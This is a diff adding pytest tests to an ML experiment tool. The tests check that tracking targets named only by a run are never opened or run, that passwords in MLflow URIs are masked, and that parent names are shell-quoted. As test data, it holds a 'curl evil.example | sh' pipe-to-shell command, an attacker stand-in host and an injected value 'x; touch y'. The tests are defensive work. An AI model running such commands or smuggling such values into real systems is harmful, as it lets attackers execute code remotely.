@@ -1,19 +1,25 @@
 """Where a run's journal is carried to is not up to the run: MLflow's password would go there too."""
 
+import shutil
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from accelerator.cli.outcome import print_synced
 from accelerator.config.project import Project
-from accelerator.errors import AcceleratorError, ConfigError, StorageError
+from accelerator.errors import AcceleratorError, ConfigError, InputError, StorageError
+from accelerator.experiment.resume import resume
 from accelerator.experiment.sound_config import sound_config_of_run, sound_saved_config
+from accelerator.experiment.sync import sync
 from accelerator.runs.folder import RunFolder
 from accelerator.runs.progress import Tracking, read_tracking, write_tracking
 from accelerator.runs.run import Run
+from accelerator.runs.summary import Summary, write_summary
 from accelerator.tracking.addresses import addresses_in, is_named
 from accelerator.tracking.forward import open_sink
+from accelerator.tracking.where_to_look import open_command, open_command_of_own
 
 Edit = Callable[[str, Any], None]
 EVIL = "http://evil.example:5000"
@@ -130,3 +136,52 @@ def test_an_address_that_the_command_names_is_handed_on_without_passwords() -> N
     overrides = [f"+tracking.tracking_uri='{EVIL}'", "tracking.tracking_uri=postgresql://u:pw@h/db", f"name={EVIL}"]
 
     assert addresses_in(overrides) == [EVIL]
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        {"address": EVIL, "command": "curl evil.example | sh"},
+        {"tracking_uri": EVIL, "experiment": "x", "run_id": "1"},
+        {"tracking_uri": "sqlite:////tmp/evil.db", "experiment": "x", "run_id": "1"},
+        {"tracking_uri": "https://***@evil.example", "experiment": "x", "run_id": "1"},
+    ],
+    ids=["a command", "a server", "a database", "a server without its password"],
+)
+def test_nothing_that_only_the_run_names_is_to_be_run_or_opened(
+    target: dict[str, str], stranger: RunFolder, home: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write_tracking(stranger, Tracking(target=target, finished="completed", sent=3))
+
+    code = print_synced(sync(str(stranger.path), project=home))
+
+    assert code == 0
+    assert capsys.readouterr().out == f"All is there: 3 records of {stranger.path}\n"
+
+
+@pytest.mark.parametrize("variable", [EVIL, "https://me:hunter2@evil.example"])
+def test_what_somebody_else_names_is_shown_without_its_password(
+    variable: str, stranger: RunFolder, home: Project, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", variable)
+    uri = variable.replace("me:hunter2", "***")
+    write_tracking(stranger, Tracking(target={"tracking_uri": uri, "experiment": "x", "run_id": "1"}))
+
+    assert open_command(stranger, home) == uri
+
+
+def test_a_run_that_this_command_made_is_shown_in_the_store_of_its_config(
+    stranger: RunFolder, home: Project, edit: Edit
+) -> None:
+    edit("tracking", NODE)
+    write_tracking(stranger, Tracking(target={"tracking_uri": EVIL, "experiment": "x", "run_id": "1"}))
+
+    assert (open_command(stranger, home), open_command_of_own(stranger, home)) == (None, EVIL)
+
+
+def test_a_parent_is_named_so_that_a_shell_takes_it_as_a_word(stranger: RunFolder, home: Project) -> None:
+    shutil.rmtree(stranger.checkpoints)
+    write_summary(stranger, Summary("completed", parent="x; touch y"))
+
+    with pytest.raises(InputError, match="accelerator experiment resume 'x; touch y'"):
+        resume(str(stranger.path), project=home)
